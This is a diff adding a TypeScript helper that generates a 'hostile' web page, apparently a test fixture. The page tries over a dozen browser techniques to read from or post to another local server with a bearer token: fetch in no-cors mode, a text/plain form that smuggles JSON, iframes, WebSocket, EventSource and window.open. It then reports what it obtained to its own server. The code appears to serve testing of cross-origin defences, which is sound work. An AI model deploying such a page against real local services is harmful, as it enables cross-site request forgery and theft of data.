@@ -1,0 +1,62 @@
+/**
+ * A page that tries everything a page has to reach another server of this machine, and tells its own
+ * server what it could read, by attempt.
+ */
+export function hostilePage(target: string, token: string): string {
+  const facts = JSON.stringify({ target, token })
+  return `<!doctype html><title>Hostile</title><body><script>
+const { target, token } = ${facts}
+const json = { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer ' + token }, body: '{}' }
+const read = async (...of) => (await fetch(...of)).text()
+const element = (name, more) => new Promise((resolve) => {
+  const made = Object.assign(document.createElement(name), more)
+  made.onload = () => resolve(made)
+  made.onerror = () => resolve(undefined)
+  document.body.append(made)
+})
+const attempts = {
+  'fetch': () => read(target + '/data'),
+  'fetch with the token': () => read(target + '/data', json),
+  'fetch without asking for leave': () => read(target + '/data', { ...json, mode: 'no-cors' }),
+  'post as a form would': () => read(target + '/data', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}' }),
+  'beacon': async () => { navigator.sendBeacon(target + '/data', '{}'); return '' },
+  'form': async () => {
+    const frame = await element('iframe', { name: 'answer', srcdoc: '' })
+    const form = Object.assign(document.createElement('form'), { action: target + '/data', method: 'post', target: 'answer', enctype: 'text/plain' })
+    form.append(Object.assign(document.createElement('input'), { name: '{"a":"', value: '"}' }))
+    document.body.append(form)
+    form.submit()
+    await new Promise((done) => setTimeout(done, 300))
+    return frame.contentDocument?.body.textContent ?? ''
+  },
+  'frame': async () => {
+    const frame = await element('iframe', { src: target + '/' })
+    return frame.contentDocument?.body.textContent ?? ''
+  },
+  'script': async () => { await element('script', { src: target + '/script' }); return globalThis.stolen ?? '' },
+  'style sheet': async () => (await element('link', { rel: 'stylesheet', href: target + '/style' })) ? 'loaded' : '',
+  'image': async () => (await element('img', { src: target + '/image' })) ? 'loaded' : '',
+  'WebSocket': () => new Promise((resolve) => {
+    const socket = new WebSocket(target.replace('http', 'ws') + '/socket')
+    socket.onopen = () => resolve('open')
+    socket.onerror = () => resolve('')
+  }),
+  'events': () => new Promise((resolve) => {
+    const events = new EventSource(target + '/events')
+    events.onmessage = ({ data }) => { events.close(); resolve(data) }
+    events.onerror = () => { events.close(); resolve('') }
+  }),
+  'window': async () => {
+    const opened = window.open(target + '/')
+    await new Promise((done) => setTimeout(done, 300))
+    try { return opened.document.body.textContent } catch { return '' } finally { opened?.close() }
+  },
+}
+const got = {}
+for (const [name, attempt] of Object.entries(attempts)) {
+  const late = new Promise((resolve) => setTimeout(resolve, 2000, ''))
+  got[name] = await Promise.race([attempt().catch(() => ''), late])
+}
+await fetch('/report', { method: 'POST', body: JSON.stringify(got) })
+</script></body>`.replace('<script>', '<script type="module">')
+}
